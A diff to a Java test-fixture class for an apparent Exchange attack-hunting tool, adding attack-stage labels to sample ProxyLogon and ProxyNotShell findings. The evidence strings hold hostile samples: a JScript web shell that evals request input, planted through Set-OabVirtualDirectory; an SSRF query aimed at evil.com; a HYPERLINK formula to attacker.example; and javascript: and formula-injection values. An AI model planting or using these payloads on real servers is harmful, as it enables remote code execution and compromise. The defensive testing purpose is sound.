@@ -10,6 +10,7 @@ import org.exhunt.core.RunInfo;
 import org.exhunt.core.ServerResult;
 import org.exhunt.core.Severity;
 import org.exhunt.core.SourceRef;
+import org.exhunt.core.Stage;
 import org.exhunt.core.Verdict;
 
 /**
@@ -80,7 +81,7 @@ public final class SampleResults {
     static Finding chain() {
         return Finding.builder("sigma", "exhunt.chain.proxylogon")
                 .title("ProxyLogon chain: SSRF, OAB ExternalUrl set to a script, then the shell requested")
-                .severity(Severity.CRITICAL).chain("ProxyLogon")
+                .severity(Severity.CRITICAL).chain("ProxyLogon").stage(Stage.SUCCESS)
                 .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855", "cve.2021-27065", "attack.t1190"))
                 .meta("description", "Three steps of HAFNIUM's ProxyLogon use from one source within an hour")
                 .meta("reference", REFERENCE).meta("author", "exhunt")
@@ -88,7 +89,7 @@ public final class SampleResults {
                 .time(Instant.parse("2021-03-03T02:14:10Z"))
                 .source(SourceRef.line(HTTPPROXY, 42))
                 .link(Finding.builder("sigma", "exhunt.httpproxy.cve-2021-26855")
-                        .title("SSRF through the HttpProxy (CVE-2021-26855)").severity(Severity.HIGH).chain("ProxyLogon")
+                        .title("SSRF through the HttpProxy (CVE-2021-26855)").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.ATTEMPT)
                         .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855"))
                         .evidence("ClientIpAddress", ATTACKER_IP).evidence("Method", "POST")
                         .evidence("UrlStem", "/ecp/y.js").evidence("HttpStatus", "241")
@@ -97,12 +98,12 @@ public final class SampleResults {
                         .time(Instant.parse("2021-03-03T02:14:10Z")).source(SourceRef.line(HTTPPROXY, 42)).build())
                 .link(Finding.builder("sigma", "exhunt.ecp.cve-2021-27065")
                         .title("OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)")
-                        .severity(Severity.HIGH).chain("ProxyLogon").tags(List.of("cve.2021-27065"))
+                        .severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.SUCCESS).tags(List.of("cve.2021-27065"))
                         .evidence("CMD", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
                                 + "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>'")
                         .time(Instant.parse("2021-03-03T02:15:33Z")).source(SourceRef.line(ECP_LOG, 7)).build())
                 .link(Finding.builder("sigma", "exhunt.iis.webshell-request")
-                        .title("POST to a script in aspnet_client").severity(Severity.HIGH).chain("ProxyLogon")
+                        .title("POST to a script in aspnet_client").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                         .evidence("c-ip", ATTACKER_IP).evidence("cs-method", "POST")
                         .evidence("cs-uri-stem", "/aspnet_client/system_web/errorEE.aspx")
                         .evidence("cs-uri-query", "-").evidence("sc-status", "200")
@@ -115,7 +116,7 @@ public final class SampleResults {
     /** A YARA hit at a byte offset, with formula-looking evidence. */
     static Finding chopper() {
         return Finding.builder("yara", "HAFNIUM_China_Chopper_Aspx")
-                .title("China Chopper web shell").severity(Severity.HIGH).chain("ProxyLogon")
+                .title("China Chopper web shell").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                 .tags(List.of("attack.persistence", "attack.t1505.003"))
                 .meta("reference", "https://github.com/Neo23x0/signature-base/blob/master/yara/apt_hafnium.yar")
                 .meta("author", "Florian Roth")
@@ -129,7 +130,7 @@ public final class SampleResults {
     /** ProxyNotShell probes from an IPv6 client, answered 400: an attempt. */
     static Finding notShellAttempt() {
         return Finding.builder("sigma", "exhunt.iis.proxynotshell-autodiscover")
-                .title("ProxyNotShell autodiscover SSRF attempt").severity(Severity.MEDIUM).chain("ProxyNotShell")
+                .title("ProxyNotShell autodiscover SSRF attempt").severity(Severity.MEDIUM).chain("ProxyNotShell").stage(Stage.ATTEMPT)
                 .tags(List.of("attack.initial_access", "attack.t1190", "cve.2022-41040"))
                 .evidence("c-ip", "2001:db8::5").evidence("cs-uri-stem", "/autodiscover/autodiscover.json")
                 .evidence("cs-uri-query", "@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ"
@@ -144,7 +145,7 @@ public final class SampleResults {
     static Finding hostileFile() {
         return Finding.builder("ioc", "-1+1")
                 .title("=HYPERLINK(\"http://attacker.example/\",\"click\") file with a known HAFNIUM web-shell hash")
-                .severity(Severity.HIGH)
+                .severity(Severity.HIGH).stage(Stage.POST_EXPLOITATION)
                 .meta("reference", "javascript:alert(1)")
                 .evidence("path", "C:\\inetpub\\wwwroot\\aspnet_client\\" + IMG_INJECTION + ".aspx")
                 .evidence("sha256", "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0")
@@ -161,7 +162,7 @@ public final class SampleResults {
     static Finding buildWithoutTime() {
         return Finding.builder("kb", "exhunt.kb.missing-march-2021-su")
                 .title("Build 15.1.2176.2 misses the March 2021 security update").severity(Severity.INFORMATIONAL)
-                .chain("ProxyLogon").tags(List.of("cve.2021-26855"))
+                .chain("ProxyLogon").stage(Stage.CONTEXT).tags(List.of("cve.2021-26855"))
                 .evidence("build", "15.1.2176.2").evidence("from", "+ExSetup.exe file version")
                 .source(SourceRef.record("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\ExSetup.exe", "VS_VERSIONINFO"))
                 .build();
